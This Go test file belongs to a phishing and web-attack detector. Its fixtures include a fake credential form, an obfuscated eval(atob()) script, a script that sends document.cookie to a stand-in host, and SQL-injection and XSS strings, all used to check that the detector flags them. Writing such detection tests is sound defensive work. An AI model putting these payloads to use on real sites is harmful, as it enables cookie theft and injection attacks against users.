package analysis

import (
	"context"
	"errors"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/Wikid82/phishguard/internal/config"
	"github.com/Wikid82/phishguard/internal/detector"
	"github.com/Wikid82/phishguard/internal/models"
	"github.com/Wikid82/phishguard/internal/render"
	"github.com/Wikid82/phishguard/internal/trust"
)

type fakeProbe struct {
	issuer trust.Issuer
	err    error
	panics bool
}

func (f fakeProbe) Probe(context.Context, string) (trust.Issuer, error) {
	if f.panics {
		panic("probe exploded")
	}
	return f.issuer, f.err
}

var validCert = fakeProbe{issuer: trust.Issuer{Organization: []string{"Google Trust Services"}, CommonName: "WR2"}}

type fakeBlacklist struct {
	entry  *models.BlacklistEntry
	err    error
	values []string
}

func (f *fakeBlacklist) FindActive(values ...string) (*models.BlacklistEntry, error) {
	f.values = values
	return f.entry, f.err
}

type recordingThreats struct {
	urls     []string
	analyses []detector.Analysis
}

func (r *recordingThreats) HandleURLThreat(rawURL string, a detector.Analysis) (bool, error) {
	r.urls = append(r.urls, rawURL)
	r.analyses = append(r.analyses, a)
	return true, nil
}

type testDeps struct {
	probe     trust.TLSProbe
	renderer  render.Provider
	blacklist BlacklistLookup
	threats   ThreatHandler
}

func newTestAnalyzer(t *testing.T, deps testDeps) *Analyzer {
	t.Helper()
	rules := config.DefaultRules()
	det, err := detector.New(rules.Detector)
	require.NoError(t, err)
	scorer, err := trust.NewScorer(rules.Trust)
	require.NoError(t, err)

	a, err := New(Options{
		Rules:     rules.Analysis,
		Detector:  det,
		Scorer:    scorer,
		Typosquat: trust.NewTyposquatter(rules.Trust.ProtectedDomains),
		TLS:       deps.probe,
		Renderer:  deps.renderer,
		Blacklist: deps.blacklist,
		Threats:   deps.threats,
	})
	require.NoError(t, err)
	return a
}

func checkNames(checks []models.Check) []string {
	names := make([]string, 0, len(checks))
	for _, c := range checks {
		names = append(names, c.Name)
	}
	return names
}

func findCheck(checks []models.Check, name string) (models.Check, bool) {
	for _, c := range checks {
		if c.Name == name {
			return c, true
		}
	}
	return models.Check{}, false
}

func lowTrustWeight(level string) int {
	switch level {
	case trust.LevelUntrusted:
		return lowTrustUntrusted
	case trust.LevelSuspicious:
		return lowTrustSuspicious
	}
	return 0
}

func TestNew_RequiresCoreComponents(t *testing.T) {
	_, err := New(Options{})
	assert.Error(t, err)
}

func TestNew_InvalidPattern(t *testing.T) {
	rules := config.DefaultRules()
	det, err := detector.New(rules.Detector)
	require.NoError(t, err)
	scorer, err := trust.NewScorer(rules.Trust)
	require.NoError(t, err)

	analysisRules := rules.Analysis
	analysisRules.LoginTitle = "(login"
	_, err = New(Options{
		Rules:     analysisRules,
		Detector:  det,
		Scorer:    scorer,
		Typosquat: trust.NewTyposquatter(nil),
	})
	assert.Error(t, err)
}

func TestAnalyze_CleanPage(t *testing.T) {
	url := "https://www.google.com"
	a := newTestAnalyzer(t, testDeps{
		probe: validCert,
		renderer: render.Static{Pages: map[string]*render.Page{
			url: {URL: url, FinalURL: url, Title: "Google", Text: "Pesquisa Google"},
		}},
	})

	res, err := a.Analyze(context.Background(), "job-1", url)
	require.NoError(t, err)

	assert.Equal(t, "job-1", res.JobID)
	assert.Equal(t, url, res.URL)
	assert.Equal(t, 0, res.Score)
	assert.Equal(t, models.LevelLow, res.Level)
	assert.NotNil(t, res.Checks)
	assert.Empty(t, res.Checks)
	assert.Equal(t, []string{FallbackTip}, res.Tips)
	require.NotNil(t, res.Trust)
	assert.Equal(t, 100.0, res.Trust.Score)
	assert.True(t, res.Trust.IsTrusted)
}

func TestAnalyze_PhishingPage(t *testing.T) {
	url := "https://nub4nk.com/confirm"
	page := &render.Page{
		URL:      url,
		FinalURL: url,
		Title:    "Entrar na sua conta",
		HTML:     `<form id="f" action="/collect"><input name="cpf"><input type="password" name="senha"></form>`,
		Text:     "Digite sua senha para continuar",
		Forms: []render.Form{{
			Action: "/collect",
			Fields: []render.FormField{{Name: "cpf", Type: "text"}, {Name: "senha", Type: "password"}},
		}},
		Scripts:   []string{"eval(atob('ZG9jdW1lbnQ='))", "document.forms[0].submit()"},
		Redirects: 3,
	}
	threats := &recordingThreats{}
	a := newTestAnalyzer(t, testDeps{
		// an issuer without organization counts as self-signed
		probe:    fakeProbe{issuer: trust.Issuer{CommonName: "nub4nk.com"}},
		renderer: render.Static{Pages: map[string]*render.Page{url: page}},
		threats:  threats,
	})

	res, err := a.Analyze(context.Background(), "job-2", url)
	require.NoError(t, err)

	assert.Equal(t, []string{
		CheckTLS,
		CheckTyposquatting,
		CheckSuspiciousForm,
		CheckAutoSubmit,
		CheckMultipleRedirects,
		CheckTitleLogin,
		CheckObfuscatedScripts,
		CheckLowTrust,
	}, checkNames(res.Checks))

	for _, c := range res.Checks {
		assert.False(t, c.OK, c.Name)
	}

	tls, _ := findCheck(res.Checks, CheckTLS)
	assert.Equal(t, "Certificado suspeito ou autoassinado", tls.Reason)

	typo, _ := findCheck(res.Checks, CheckTyposquatting)
	assert.Equal(t, "Domínio similar a nubank.com (distância: 1)", typo.Reason)

	form, _ := findCheck(res.Checks, CheckSuspiciousForm)
	fields, ok := form.Details.([]SuspiciousField)
	require.True(t, ok)
	assert.Equal(t, []SuspiciousField{
		{Field: "senha", Type: "password"},
		{Fields: []string{"cpf", "senha"}},
	}, fields)

	redirects, _ := findCheck(res.Checks, CheckMultipleRedirects)
	assert.Equal(t, "Múltiplos redirecionamentos detectados (3)", redirects.Reason)

	title, _ := findCheck(res.Checks, CheckTitleLogin)
	assert.Equal(t, "Título sugere página de login: 'Entrar na sua conta'", title.Reason)

	// trust 83 - 30 typosquatting - 20 suspicious content = 33, untrusted
	require.NotNil(t, res.Trust)
	assert.Equal(t, 33.0, res.Trust.Score)
	lowTrust, _ := findCheck(res.Checks, CheckLowTrust)
	assert.Equal(t, "Baixa confiabilidade: não confiável (33.0)", lowTrust.Reason)

	assert.Equal(t, 30+40+40+10+15+5+10+20, res.Score)
	assert.Equal(t, models.LevelHigh, res.Level)
	assert.Equal(t, []string{
		tipOrder[0].tip,
		tipOrder[1].tip,
		tipOrder[2].tip,
	}, res.Tips)

	assert.Empty(t, threats.urls, "page without attack code must not be quarantined")
}

func TestAnalyze_BrandTitleIsNotLoginLure(t *testing.T) {
	url := "https://www.google.com"
	a := newTestAnalyzer(t, testDeps{
		probe: validCert,
		renderer: render.Static{Pages: map[string]*render.Page{
			url: {URL: url, Title: "Banco Oficial - Entrar"},
		}},
	})

	res, err := a.Analyze(context.Background(), "job", url)
	require.NoError(t, err)
	_, found := findCheck(res.Checks, CheckTitleLogin)
	assert.False(t, found)
}

func TestAnalyze_AttackContentIsQuarantined(t *testing.T) {
	url := "https://shop.example.com/search"
	threats := &recordingThreats{}
	a := newTestAnalyzer(t, testDeps{
		probe: validCert,
		renderer: render.Static{Pages: map[string]*render.Page{
			url: {URL: url, Title: "Busca", Text: "Resultados para admin' -- <script>alert(1)</script>"},
		}},
		threats: threats,
	})

	res, err := a.Analyze(context.Background(), "job-3", url)
	require.NoError(t, err)

	c, found := findCheck(res.Checks, CheckAttackDetected)
	require.True(t, found)
	assert.Equal(t, "Ataques detectados: sql_injection, xss", c.Reason)
	details, ok := c.Details.(map[string]interface{})
	require.True(t, ok)
	assert.Contains(t, details, "threats")
	assert.Equal(t, detector.SeverityHigh, details["risk_level"])

	require.Len(t, threats.urls, 1)
	assert.Equal(t, url, threats.urls[0])
	assert.True(t, threats.analyses[0].IsMalicious)

	require.NotNil(t, res.Trust)
	assert.Equal(t, Weights[CheckAttackDetected]+lowTrustWeight(res.Trust.Level), res.Score)
	assert.Equal(t, models.LevelHigh, res.Level)
	assert.Contains(t, res.Tips, tipOrder[6].tip)
}

func TestAnalyze_AttackMarkupInHTML(t *testing.T) {
	url := "https://promo.example.com/oferta"
	threats := &recordingThreats{}
	a := newTestAnalyzer(t, testDeps{
		probe: validCert,
		renderer: render.Static{Pages: map[string]*render.Page{
			url: {
				URL:   url,
				Title: "Oferta",
				HTML:  `<html><body>Hello<script>new Image().src="http://x.example/?c="+document.cookie</script><iframe src="http://x.example/frame"></iframe><img src=x onerror=alert(1)></body></html>`,
				Text:  "Hello",
			},
		}},
		threats: threats,
	})

	res, err := a.Analyze(context.Background(), "job-html", url)
	require.NoError(t, err)

	c, found := findCheck(res.Checks, CheckAttackDetected)
	require.True(t, found, "markup-only payload must be detected")
	assert.Equal(t, "Ataques detectados: xss", c.Reason)
	assert.GreaterOrEqual(t, res.Score, Weights[CheckAttackDetected])
	assert.Equal(t, models.LevelHigh, res.Level)
	require.Len(t, threats.urls, 1)
	assert.Equal(t, url, threats.urls[0])
}

func TestAnalyze_BlacklistShortCircuits(t *testing.T) {
	bl := &fakeBlacklist{entry: &models.BlacklistEntry{ItemType: models.ItemDomain, ItemValue: "evil.tk", ThreatType: "phishing"}}
	a := newTestAnalyzer(t, testDeps{
		probe: validCert,
		// a render attempt would add render_error
		renderer:  render.Static{},
		blacklist: bl,
	})

	res, err := a.Analyze(context.Background(), "job-4", "http://login.evil.tk/x")
	require.NoError(t, err)

	assert.Equal(t, []string{"http://login.evil.tk/x", "login.evil.tk", "evil.tk"}, bl.values)
	assert.Equal(t, []string{CheckBlacklisted}, checkNames(res.Checks))
	assert.Equal(t, "Item na blacklist: evil.tk (phishing)", res.Checks[0].Reason)
	assert.Equal(t, 100, res.Score)
	assert.Equal(t, models.LevelHigh, res.Level)
	assert.Equal(t, []string{tipOrder[5].tip}, res.Tips)
	assert.NotNil(t, res.Trust)
}

func TestAnalyze_BlacklistErrorDoesNotAbort(t *testing.T) {
	url := "https://www.google.com"
	a := newTestAnalyzer(t, testDeps{
		probe:     validCert,
		renderer:  render.Static{Pages: map[string]*render.Page{url: {URL: url}}},
		blacklist: &fakeBlacklist{err: errors.New("database is locked")},
	})

	res, err := a.Analyze(context.Background(), "job", url)
	require.NoError(t, err)
	assert.Equal(t, 0, res.Score)
}

func TestAnalyze_RenderError(t *testing.T) {
	a := newTestAnalyzer(t, testDeps{
		probe:    validCert,
		renderer: render.Static{Err: errors.New("net::ERR_NAME_NOT_RESOLVED")},
	})

	res, err := a.Analyze(context.Background(), "job-5", "https://www.google.com")
	require.NoError(t, err)

	assert.Equal(t, []string{CheckRenderError}, checkNames(res.Checks))
	assert.Equal(t, "Erro ao carregar página: net::ERR_NAME_NOT_RESOLVED", res.Checks[0].Reason)
	assert.Equal(t, 20, res.Score)
	assert.Equal(t, models.LevelMedium, res.Level)
	assert.Equal(t, []string{FallbackTip}, res.Tips)
}

func TestAnalyze_RenderingDisabled(t *testing.T) {
	a := newTestAnalyzer(t, testDeps{probe: validCert})

	res, err := a.Analyze(context.Background(), "job", "https://www.google.com")
	require.NoError(t, err)
	c, found := findCheck(res.Checks, CheckRenderError)
	require.True(t, found)
	assert.Contains(t, c.Reason, render.ErrRenderDisabled.Error())
}

func TestAnalyze_InvalidURL(t *testing.T) {
	a := newTestAnalyzer(t, testDeps{probe: validCert})

	for _, raw := range []string{"not a url", "http://", "://missing-scheme"} {
		res, err := a.Analyze(context.Background(), "job", raw)
		require.NoError(t, err, raw)
		assert.Equal(t, []string{CheckInvalidURL}, checkNames(res.Checks), raw)
		assert.Equal(t, 100, res.Score, raw)
		assert.Equal(t, models.LevelHigh, res.Level, raw)
		assert.Nil(t, res.Trust, raw)
	}
}

func TestAnalyze_PanickingCheckIsSkipped(t *testing.T) {
	url := "https://www.google.com"
	a := newTestAnalyzer(t, testDeps{
		probe:    fakeProbe{panics: true},
		renderer: render.Static{Pages: map[string]*render.Page{url: {URL: url}}},
	})

	res, err := a.Analyze(context.Background(), "job", url)
	require.NoError(t, err)
	_, found := findCheck(res.Checks, CheckTLS)
	assert.False(t, found)
	assert.Equal(t, 0, res.Score)
}

func TestAnalyze_CancelledContext(t *testing.T) {
	a := newTestAnalyzer(t, testDeps{
		probe:    validCert,
		renderer: render.Static{},
	})

	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	res, err := a.Analyze(ctx, "job", "https://www.google.com")
	assert.ErrorIs(t, err, context.Canceled)
	assert.Nil(t, res)
}

func TestThreatTypes(t *testing.T) {
	findings := []detector.Finding{
		{Category: detector.XSS},
		{Category: detector.SQLInjection},
		{Category: detector.XSS},
		{Category: detector.PathTraversal},
	}
	assert.Equal(t, []string{"sql_injection", "xss"}, threatTypes(findings, 3))
	assert.Equal(t, []string{"path_traversal", "sql_injection", "xss"}, threatTypes(findings, 10))
	assert.Empty(t, threatTypes(nil, 5))
}
